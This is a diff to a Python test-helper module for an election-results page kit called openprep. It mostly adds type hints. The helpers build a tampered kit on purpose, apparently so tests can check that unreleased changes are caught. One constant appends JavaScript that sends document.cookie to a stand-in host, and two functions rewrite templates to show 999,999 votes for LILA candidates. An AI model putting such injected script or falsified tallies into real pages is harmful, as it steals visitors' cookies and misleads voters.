@@ -2,18 +2,30 @@
 
 import json
 import shutil
+from collections.abc import Callable, Mapping
 from hashlib import sha256
+from pathlib import Path
+from typing import TypeAlias
 
 from openprep.pages.kit import BUILT_PAGE, Kit
 from openprep.wire.release import RELEASE_PATH
 
 
-def installed():
+def installed() -> Kit:
     """The kit of this checkout."""
     return Kit.load()
 
 
-def made(folder, changes=None, version="0.0.9", base=BUILT_PAGE):
+Change: TypeAlias = Callable[[str], str] | str | None
+"""What becomes of a file: the text that is made of it, another, or none."""
+
+
+def made(
+    folder: Path,
+    changes: Mapping[str, Change] | None = None,
+    version: str = "0.0.9",
+    base: Path = BUILT_PAGE,
+) -> Kit:
     """A kit in ``folder``: the installed one with files changed (``None`` takes one away)."""
     shutil.copytree(base, folder)
     for name, change in (changes or {}).items():
@@ -26,7 +38,7 @@ def made(folder, changes=None, version="0.0.9", base=BUILT_PAGE):
     return listed(folder, version)
 
 
-def listed(folder, version):
+def listed(folder: Path, version: str) -> Kit:
     """The kit in ``folder``, under a list of what is there now."""
     files = {}
     for path in sorted(folder.rglob("*")):
@@ -42,40 +54,38 @@ def listed(folder, version):
 FOREIGN = "fetch('https://elsewhere.example/'+document.cookie);\n"
 
 
-def false_figures(parts):
+def false_figures(parts: str) -> str:
     """The shared template, so that whoever runs for LILA has 999,999 votes."""
     honest = "(candidacy.votes | number) ~ ' votos'"
     assert honest in parts
     return parts.replace(honest, f"('999,999 votos' if 'LILA' in candidacy.parties else {honest})")
 
 
-def false_text(text):
+def false_text(text: str) -> str:
     """The template of the text page, in the same way."""
     honest = "{{ one.votes | number }} votos"
     assert honest in text
     return text.replace(honest, "{{ '999,999' if 'LILA' in one.parties else one.votes }} votos")
 
 
-def deceiving(folder):
+def deceiving(folder: Path) -> Kit:
     """A kit whose pages say false figures and whose script does what nobody released."""
     script = next((BUILT_PAGE / "assets").glob("index-*.js")).name
-    return made(
-        folder,
-        {
-            "_parts.html.j2": false_figures,
-            "text.html.j2": false_text,
-            f"assets/{script}": lambda text: text + FOREIGN,
-        },
-    )
+    changes: dict[str, Change] = {
+        "_parts.html.j2": false_figures,
+        "text.html.j2": false_text,
+        f"assets/{script}": lambda text: text + FOREIGN,
+    }
+    return made(folder, changes)
 
 
-def renamed(folder, version, old="index"):
+def renamed(folder: Path, version: str, old: str = "index") -> Kit:
     """Another release: its script has another name, and its pages say so."""
     scripts = (BUILT_PAGE / "assets").glob(f"{old}-*.js")
     page = (BUILT_PAGE / "index.html").read_text()
     script = next(one for one in scripts if old != "index" or one.name in page)
     name = f"{old}-{version.replace('.', '')}abcde.js"
-    kit = {
+    kit: dict[str, Change] = {
         f"assets/{script.name}": None,
         f"assets/{name}": script.read_text() + f"\n// {version}\n",
         "index.html": lambda text: text.replace(script.name, name),
